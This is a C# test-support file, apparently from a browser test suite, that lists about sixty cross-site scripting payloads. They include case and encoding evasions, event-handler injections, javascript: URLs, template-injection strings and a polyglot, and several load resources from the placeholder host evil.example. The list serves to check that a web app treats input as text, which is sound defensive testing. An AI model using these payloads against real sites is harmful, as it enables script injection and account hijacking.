namespace WorkflowItsm.Browser.Tests.Sweep;

/// <summary>
/// Texts that would run as a script in a page that took them for anything but text. Whatever runs says so in
/// <c>window.__ran</c>; whatever is fetched goes to a host that is not ours.
/// </summary>
internal static class Payloads
{
    private const string Run = "window.__ran=1";

    public static IReadOnlyList<string> All { get; } =
    [
        $"<script>{Run}</script>",
        $"<ScRiPt >{Run}</sCrIpT >",
        $"<script src=//evil.example/a.js></script>",
        $"</script><script>{Run}</script>",
        $"<script type=module>{Run}</script>",
        $"<scr<script>ipt>{Run}</scr</script>ipt>",
        $"<img src=x onerror={Run}>",
        $"<img src=x onerror=\"{Run}\" alt=\"",
        $"<img/src/onerror={Run}>",
        $"<IMG SRC=x OnErRoR={Run}>",
        $"<img src=//evil.example/pixel.png>",
        $"<svg onload={Run}>",
        $"<svg><script>{Run}</script></svg>",
        $"<svg><animate onbegin={Run} attributeName=x dur=1s>",
        $"<svg><a xlink:href=javascript:{Run}><text y=20>x</text></a></svg>",
        $"<math><mtext><style><img src=x onerror={Run}></style></mtext></math>",
        $"<body onload={Run}>",
        $"<details open ontoggle={Run}>x</details>",
        $"<video><source onerror={Run}></video>",
        $"<audio src=x onerror={Run}></audio>",
        $"<input autofocus onfocus={Run}>",
        $"<select autofocus onfocus={Run}></select>",
        $"<textarea autofocus onfocus={Run}></textarea>",
        $"<marquee onstart={Run}>x</marquee>",
        $"<iframe src=javascript:parent.{Run}></iframe>",
        $"<iframe srcdoc=\"<script>parent.{Run}</script>\"></iframe>",
        $"<object data=javascript:{Run}></object>",
        $"<embed src=javascript:{Run}>",
        $"<form action=javascript:{Run}><button autofocus>x</button></form>",
        $"<a href=javascript:{Run}>x</a>",
        $"<a href=\"java\tscript:{Run}\">x</a>",
        $"<base href=//evil.example/>",
        $"<link rel=stylesheet href=//evil.example/a.css>",
        $"<meta http-equiv=refresh content=\"0;url=//evil.example/\">",
        $"<style>@import '//evil.example/a.css';</style>",
        $"<div style=\"background:url(javascript:{Run})\">x</div>",
        $"<div style=\"width:expression({Run})\">x</div>",
        $"\"><script>{Run}</script>",
        $"'><svg onload={Run}>",
        $"\" autofocus onfocus={Run} x=\"",
        $"' onmouseover={Run} x='",
        $"`onfocus={Run} autofocus=`",
        $"--><script>{Run}</script><!--",
        $"]]><script>{Run}</script>",
        $"</textarea><script>{Run}</script>",
        $"</title><script>{Run}</script>",
        $"</style><script>{Run}</script>",
        $"javascript:{Run}//",
        $"data:text/html,<script>{Run}</script>",
        $"[x](javascript:{Run})",
        $"![x](x\" onerror=\"{Run})",
        $"{{{{constructor.constructor('{Run}')()}}}}",
        $"${{{Run}}}",
        $"<%= {Run} %>",
        $"@(({Run}))",
        $"\\u003cscript\\u003e{Run}\\u003c/script\\u003e",
        $"&lt;script&gt;{Run}&lt;/script&gt;",
        $"&#60;img src=x onerror={Run}&#62;",
        $"＜script＞{Run}＜/script＞",
        $"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={Run} )//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd={Run}//>\\x3e",
    ];
}
